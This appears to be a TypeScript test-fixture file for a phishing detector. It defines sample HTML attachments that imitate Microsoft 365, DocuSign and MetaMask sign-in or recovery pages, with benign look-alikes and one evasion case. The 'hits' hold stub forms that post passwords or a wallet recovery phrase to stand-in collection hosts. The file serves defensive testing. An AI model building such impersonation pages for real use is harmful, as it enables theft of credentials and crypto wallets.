import type { Examples } from "@doorward/core";
import { makePage } from "../example-pages.ts";

const signIn = (title: string, action: string) =>
  makePage(
    `<form method="post" action="${action}"><input type="email" name="a"><input type="password" name="b"></form>`,
    title,
  );

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    {
      name: "an office sign-in",
      delivered: true,
      files: { "Scan.html": signIn("Microsoft 365 - Sign in", "https://collect.example/p.php") },
    },
    {
      name: "a service for signatures",
      delivered: true,
      files: { "Contract.html": signIn("DocuSign", "https://collect.example/p.php") },
    },
    {
      name: "a wallet's recovery",
      delivered: true,
      files: {
        "Restore.html": makePage(
          `<h1>MetaMask</h1><form action="https://restore.example/in"><input name="phrase" placeholder="Recovery phrase"></form>`,
          "Restore",
        ),
      },
    },
  ],
  misses: [
    {
      name: "a locked mail that a password opens",
      why: "It is called by nobody's name; another rule asks for a look.",
      delivered: true,
      files: { "message.html": signIn("Secure message", "https://mail-gateway.example/open") },
    },
    {
      name: "a page saved from the service's own site",
      why: "It sends to where the name belongs.",
      delivered: true,
      files: { "login.html": signIn("Discord - Sign in", "https://discord.com/login") },
    },
    {
      name: "a form that names a service in passing",
      why: "It asks for no secret.",
      delivered: true,
      files: {
        "survey.html": makePage(
          `<p>Do you use Outlook or Gmail?</p><form action="https://survey.example/in"><input name="answer"></form>`,
        ),
      },
    },
  ],
  evasions: [
    {
      name: "a name that only stands in a picture",
      caughtBy: "file/page-sends-secret",
      delivered: true,
      files: { "Scan.html": signIn("Sign in", "https://collect.example/p.php") },
    },
  ],
};
